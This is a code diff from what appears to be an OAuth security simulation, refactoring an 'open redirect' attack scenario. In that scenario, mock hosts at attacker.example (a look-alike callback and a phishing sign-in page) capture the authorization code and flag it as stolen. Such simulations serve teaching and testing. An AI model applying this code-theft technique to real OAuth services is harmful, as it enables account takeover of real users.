@@ -13,7 +13,6 @@ import type { World } from '../world/world';
 
 const LOOKALIKE = 'https://app.example.com.attacker.example/cb';
 const PHISH = 'https://attacker.example/welcome';
-const received = new WeakMap<object, URL>();
 
 /**
  * A genuine authorization URL with the attacker's choices (client, redirect URI, scope) and her own
@@ -55,7 +54,7 @@ export const openRedirect: AttackDef = {
   lanes: ['attacker'],
   hosts: (world) => [
     http.get(LOOKALIKE, ({ request }) => {
-      received.set(world, new URL(request.url));
+      world.attacker.landed = new URL(request.url);
       world.network.annotate({ mark: 'stolen' });
       return htmlPage('Loading…', '<p>Loading…</p>');
     }),
@@ -74,7 +73,7 @@ export const openRedirect: AttackDef = {
       },
       hosts: (world) => [
         http.get(PHISH, ({ request }) => {
-          received.set(world, new URL(request.url));
+          world.attacker.landed = new URL(request.url);
           world.network.annotate({ mark: 'stolen' });
           return htmlPage(
             'Sign in again',
@@ -115,7 +114,7 @@ export const openRedirect: AttackDef = {
           { values: { client_id: clientId, scope } },
         );
         await browser.navigate(link, { mark: 'attacker' });
-        const landed = received.get(world);
+        const landed = world.attacker.landed;
         return landed
           ? {
               attackerWon: true,
@@ -145,7 +144,7 @@ export const openRedirect: AttackDef = {
       },
     );
     await browser.navigate(link, { mark: 'attacker' });
-    const code = received.get(world)?.searchParams.get('code');
+    const code = world.attacker.landed?.searchParams.get('code');
     if (!code) return { attackerWon: false, evidence: 'No code reached the look-alike host.' };
     await attacker.note(
       'Receives the code',
